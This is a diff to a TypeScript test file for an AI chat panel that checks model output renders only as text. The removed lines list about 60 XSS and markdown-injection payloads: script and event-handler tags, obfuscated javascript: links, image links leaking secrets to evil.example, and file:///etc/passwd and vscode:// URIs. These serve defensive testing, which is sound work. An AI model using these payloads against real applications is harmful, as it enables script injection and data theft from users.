@@ -2,71 +2,8 @@ import assert from 'node:assert/strict';
 import type { ChatEvent } from '../../src/shared/events.ts';
 import { approvals, calls, request } from './agent-fixtures.ts';
 import { ask, cost, end, failure, glm, kimi, say, snapshot, toolStep, turn } from './fixtures.ts';
+import { hostileTexts as vectors } from './hostile-texts.ts';
 import { openPanel, type PanelPage } from './panel-page.ts';
-
-/** Every one of these must come out as text: no script, no request, no attribute of its own. */
-const vectors = [
-  '<script>globalThis.pwned = 1</script>',
-  '<img src=x onerror="globalThis.pwned = 1">',
-  '<svg onload="globalThis.pwned = 1">',
-  '<svg><script>globalThis.pwned = 1</script></svg>',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
-  '<object data="https://evil.example/x"></object>',
-  '<embed src="https://evil.example/x">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
-  '<style>body { background: url(https://evil.example/bg) }</style>',
-  '<div style="background: url(https://evil.example/bg)">x</div>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
-  '<form action="https://evil.example/"><button>Send</button></form>',
-  '<input autofocus onfocus="globalThis.pwned = 1">',
-  '<details open ontoggle="globalThis.pwned = 1">x</details>',
-  '<video src="https://evil.example/v"></video><audio src="https://evil.example/a"></audio>',
-  '<math><mtext><img src=x onerror="globalThis.pwned = 1"></mtext></math>',
-  '<a href="javascript:globalThis.pwned = 1">x</a>',
-  '<p id="root">clobbered</p><form id="root"><input name="innerHTML"></form>',
-  '<template><img src=x onerror="globalThis.pwned = 1"></template>',
-  '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>"></noscript>',
-  '<!--><img src=x onerror="globalThis.pwned = 1">-->',
-  '![leak](https://evil.example/?secret=1)',
-  '![leak][ref]\n\n[ref]: https://evil.example/?secret=2',
-  '![](//evil.example/?secret=3)',
-  '[![leak](https://evil.example/?secret=4)](https://evil.example/)',
-  '![leak](https://evil.example/x.png "title\\" onerror=\\"globalThis.pwned = 1")',
-  '![leak](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '[x](javascript:globalThis.pwned=1)',
-  '[x](JaVaScRiPt:globalThis.pwned=1)',
-  '[x](java&#115;cript:globalThis.pwned=1)',
-  '[x](javascript&colon;globalThis.pwned=1)',
-  '[x](java&Tab;script:globalThis.pwned=1)',
-  '[x](java&NewLine;script:globalThis.pwned=1)',
-  '[x](&#1;javascript:globalThis.pwned=1)',
-  '[x](data:text/html,<script>parent.pwned=1</script>)',
-  '[x](vbscript:globalThis.pwned=1)',
-  '[x](command:workbench.action.closeWindow)',
-  '[x](vscode://evil.evil/run)',
-  '[x](file:///etc/passwd)',
-  '[x](//evil.example)',
-  '[x][js]\n\n[js]: javascript:globalThis.pwned=1',
-  '<javascript:globalThis.pwned=1>',
-  '<https://evil.example/"onclick="globalThis.pwned=1>',
-  'https://evil.example/"onmouseover="globalThis.pwned=1',
-  '```"><img src=x onerror=globalThis.pwned=1>\ncode\n```',
-  '```html\n<script>globalThis.pwned = 1</script>\n```',
-  '`<img src=x onerror=globalThis.pwned=1>`',
-  '| <img src=x onerror=globalThis.pwned=1> |\n|---|\n| <script>globalThis.pwned=1</script> |',
-  '# <img src=x onerror=globalThis.pwned=1>',
-  '- [x] <script>globalThis.pwned=1</script>',
-  '> <iframe src="https://evil.example/">',
-  '[^1]: <img src=x onerror=globalThis.pwned=1>',
-  '&lt;img src=x onerror=globalThis.pwned=1&gt;',
-  '<<img src=x onerror=globalThis.pwned=1>script>',
-  '\u202e<script>globalThis.pwned=1</script>',
-  '</div></article></main><script>globalThis.pwned=1</script>',
-  '{{constructor.constructor("globalThis.pwned=1")()}} #{globalThis.pwned=1}',
-];
 
 const allowedTags = new Set(
   `ARTICLE B BDI BLOCKQUOTE BR BUTTON CODE DD DEL DETAILS DIV DL DT EM FOOTER HEADER H2 H3 HR INS LI OL P PATH PRE SECTION SPAN STRONG SUMMARY SVG
@@ -146,8 +83,12 @@ describe('model text is only ever text', () => {
     });
   }
 
-  for (const [index, vector] of vectors.entries()) {
-    it(`X22 X25 in requests, diffs, plans, edits and the queue, vector ${index + 1}`, async () => {
+  // These places know no markup at all: several at a time find the same.
+  const groups = Array.from({ length: Math.ceil(vectors.length / 8) }, (_, index) =>
+    vectors.slice(index * 8, index * 8 + 8).join('\n'),
+  );
+  for (const [index, vector] of groups.entries()) {
+    it(`X22 X25 in requests, diffs, plans, edits and the queue, vectors from ${index * 8 + 1} on`, async () => {
       const change = { tool: vector, title: vector, warnings: [vector], scopes: ['once', 'always'] as const };
       const diff = `@@ -1,1 +1,1 @@\n-${vector}\n+${vector}  \n ${vector}\n${vector}`;
       await panel.send(
